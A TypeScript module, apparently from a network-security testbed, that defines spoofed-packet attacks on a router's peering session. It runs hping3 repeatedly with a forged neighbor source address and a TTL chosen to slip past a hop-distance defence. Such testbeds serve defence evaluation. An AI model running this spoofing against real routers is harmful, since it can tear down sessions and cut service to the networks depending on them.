import { setTimeout as pause } from 'node:timers/promises';
import type { Attack, UnderWay } from '../attack';
import type { Attacker } from '../attacker';
import { distance } from '../defences/distance';
import type { Scene, Target } from '../scene';

/** Time between two tries, ms. */
const pauseMs = 300;

/** TTL with which packets leave the attacker's site: of its border, or of a machine behind that. */
const ttl = { oneHop: '255', twoHops: '254' } as const;

/** What attacks share that send packets in the name of another router. */
type Spoofed = Pick<Attack, 'origins' | 'scene' | 'tool' | 'rate' | 'defence' | 'harms' | 'begin'>;

/** Makes the arguments of hping3 for one try, without source, destination and TTL. */
export type Shot = (attacker: Attacker, target: Target) => Promise<readonly string[]>;

/** Sends packets in the name of a border to its PE, again and again, from two hops away: the TTL tells so. */
export function spoofed(rate: string, shot: Shot): Spoofed {
  return {
    origins: ['customer'],
    scene: 'session',
    tool: 'hping3',
    rate,
    defence: [distance],
    harms: ['sessions'],
    begin: (scene, attacker) => Promise.resolve(again(attacker, targetOf(scene), ttl.twoHops, shot)),
  };
}

/** As {@link spoofed}, but from as near as the neighbor itself: the TTL tells nothing, and the source alone could. */
export function spoofedBeside(rate: string, shot: Shot): Spoofed {
  return {
    ...spoofed(rate, shot),
    defence: [],
    begin: (scene, attacker) => Promise.resolve(again(attacker, targetOf(scene), ttl.oneHop, shot)),
  };
}

function again(attacker: Attacker, target: Target, ttlText: string, shot: Shot): UnderWay {
  let [isOver, tries] = [false, 0];
  let failure = '';
  const loop = async () => {
    while (!isOver) {
      const args = await shot(attacker, target);
      const common = ['-q', '-n', '-a', target.fromAddress, '-k', '-t', ttlText];
      await attacker.node.run('hping3', [...common, ...args, target.atAddress]);
      tries++;
      await pause(pauseMs);
    }
  };
  // A session that is down has nothing to be overheard: the attack has done its work then.
  const done = loop().catch((error: unknown) => void (failure = error instanceof Error ? error.message : String(error)));
  return {
    said: () => `${tries} tries${failure && `, then: ${failure.slice(0, 100)}`}`,
    end: async () => {
      isOver = true;
      await done;
    },
  };
}

function targetOf({ target }: Scene): Target {
  if (!target) throw new Error('the attack is after no session');
  return target;
}
